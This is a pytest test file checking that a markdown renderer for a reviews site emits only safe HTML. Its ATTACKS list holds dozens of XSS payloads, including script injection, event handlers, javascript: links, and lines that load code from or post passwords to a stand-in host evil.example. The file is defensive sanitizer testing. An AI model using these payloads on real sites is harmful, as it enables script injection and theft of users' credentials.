"""Whatever a stranger writes, only harmless elements come out."""

from html.parser import HTMLParser
from time import process_time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from reviews.markdown import render
from reviews.render.markdown_html import BRACKETS, CELLS, CUT_NOTE, LAID_OUT, LIMIT, TYPED_NOTE

HARMLESS = {
    *("p", "br", "hr", "blockquote", "pre", "code", "em", "strong", "s", "ul", "ol", "li", "a"),
    *("h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
}

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<div hx-get='/accounts/logout/' hx-trigger='load'>x</div>",
    "<a href='#' data-hx-post='/x'>x</a>",
    "<details ontoggle=alert(1) open>x</details>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example/)",
    "[x](/accounts/logout/)",
    "[x](?next=javascript:alert(1))",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '[x](https://a.example "title\' onmouseover=alert(1) ")',
    '[x](https://a.example/"onmouseover=alert(1))',
    "![x](https://evil.example/pixel.gif)",
    '![" onerror=alert(1) "](x)',
    "![<script>alert(1)</script>](x)",
    "![![nested](javascript:alert(1))](x)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "[x]\n\n[x]: javascript:alert(1)",
    '```html"><script>alert(1)</script>\nx\n```',
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "|a|\n|:-:|\n|<img src=x onerror=alert(1)>|",
    "# <img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\x00<script>alert(1)</script>",
    "\ud800<script>alert(1)</script>",
]


class Elements(HTMLParser):
    """Notes every element with its attributes, and every comment or declaration."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.found.append(("comment", {}))

    def handle_decl(self, decl: str) -> None:
        self.found.append(("declaration", {}))


def assert_harmless(html: str) -> None:
    for tag, attributes in Elements(html).found:
        assert tag in HARMLESS
        match tag:
            case "a":
                href = attributes.pop("href", "https:")
                assert href is not None
                assert href.startswith(("http:", "https:", "mailto:"))
                assert attributes == {"rel": "noopener nofollow", "target": "_blank"}
            case "th" | "td":
                assert attributes.get("class") in (None, "text-end", "text-center")
                assert set(attributes) <= {"class"}
            case "ol":
                assert set(attributes) <= {"start"}
            case _:
                assert attributes == {}


@pytest.mark.parametrize("attack", ATTACKS)
def test_hostile_text_gives_harmless_elements_only(attack: str) -> None:
    assert_harmless(render(attack))
    assert_harmless(render(f"> - **a** {attack}\n\n{attack}"))


@given(st.text(alphabet="<>!&;:/()[]*_`'\"#|-=ahjsvxonr \n\t\\\x00", max_size=200))
def test_any_text_gives_harmless_elements_only(text: str) -> None:
    assert_harmless(render(text))


def test_raw_html_shows_as_text() -> None:
    assert render("a <b>b</b>") == "<p>a &lt;b&gt;b&lt;/b&gt;</p>\n"


def test_links_open_apart_and_lend_no_weight() -> None:
    assert render("[x](https://a.example/?b=1&c=2)") == (
        '<p><a href="https://a.example/?b=1&amp;c=2" target="_blank" rel="noopener nofollow">x</a></p>\n'
    )


def test_links_into_our_own_pages_lose_their_address() -> None:
    assert Elements(render("[x](/desk/)")).found[1] == ("a", {"rel": "noopener nofollow", "target": "_blank"})


def test_pictures_show_as_their_description() -> None:
    assert render("see ![a *red* chart](https://a.example/c.png)") == "<p>see [picture: a red chart]</p>\n"
    assert render("![](c.png)") == "<p>[picture]</p>\n"


@pytest.mark.parametrize(
    ("text", "levels"),
    [
        ("# a\n## b\n### c\n# d", ["h3", "h4", "h5", "h3"]),
        ("### a\n##### b\n#### c\n## d", ["h3", "h4", "h4", "h3"]),
        ("# a\n## b\n### c\n#### d\n##### e", ["h3", "h4", "h5", "h6", "h6"]),
    ],
)
def test_headings_start_below_the_page_and_skip_no_level(text: str, levels: list[str]) -> None:
    assert [tag for tag, _ in Elements(render(text)).found] == levels


def test_headings_start_where_the_page_wants_them() -> None:
    assert render("# a", top=2) == "<h2>a</h2>\n"


def test_table_columns_are_aligned_by_class() -> None:
    html = render("|a|b|c|\n|:-|:-:|-:|\n|1|2|3|")
    assert [attributes for tag, attributes in Elements(html).found if tag == "td"] == [
        {},
        {"class": "text-center"},
        {"class": "text-end"},
    ]


def typed(text: str) -> str:
    return f"{TYPED_NOTE}<pre>{text}</pre>\n"


def test_long_text_is_shown_as_it_was_typed_then_cut_and_says_so() -> None:
    start = f"<p>{'a' * LAID_OUT}</p>\n"
    assert render("a" * LAID_OUT) == start
    assert render("a" * LAID_OUT + "<b>*") == start + typed("&lt;b&gt;*")
    assert render("a" * LIMIT) == start + typed("a" * (LIMIT - LAID_OUT))
    assert render("a" * (LIMIT + 1)) == start + typed("a" * (LIMIT - LAID_OUT)) + CUT_NOTE


@pytest.mark.parametrize(
    "heavy",
    ["![" * (BRACKETS + 1), "a\n" * CELLS, "|a" * 25 + "\n" + "|-" * 25 + "\n" + "a\n" * (CELLS // 25)],
    ids=["brackets", "lines", "cells of short rows"],
)
def test_a_text_that_would_take_seconds_is_shown_as_it_was_typed(heavy: str) -> None:
    assert render(heavy) == typed(heavy)


def test_a_large_table_is_laid_out() -> None:
    table = "|a|b|c|d|e|\n|-|-|-|-|-|\n" + "|1|2|3|4|5|\n" * 2_000
    assert render(table).count("<tr>") == 2_001


SLOW = {
    "open brackets": "[",
    "pictures never closed": "![",
    "links never closed": "[a](",
    "emphasis never closed": "*a **b ",
    "nested emphasis": "*_",
    "bracket lines": "[\n",
    "quotes": "> ",
    "nested lists": "- ",
    "entities": "&#x",
    "half tags": "<a ",
    "fences": "```\n",
}


@pytest.mark.parametrize("piece", SLOW.values(), ids=SLOW)
def test_time_grows_in_line_with_the_text(piece: str) -> None:
    def seconds(characters: int) -> float:
        text = piece * (characters // len(piece))
        begun = process_time()
        render(text)
        return process_time() - begun

    small = min(seconds(BRACKETS // 10) for _ in range(2))
    assert seconds(BRACKETS * 2) < 60 * small + 0.5  # 20 if linear, 400 if quadratic


def test_one_long_address_cannot_be_multiplied() -> None:
    text = f"[a]: https://a.example/{'x' * 50_000}\n\n" + "[a] " * 12_000
    assert len(render(text)) < 2 * len(text)
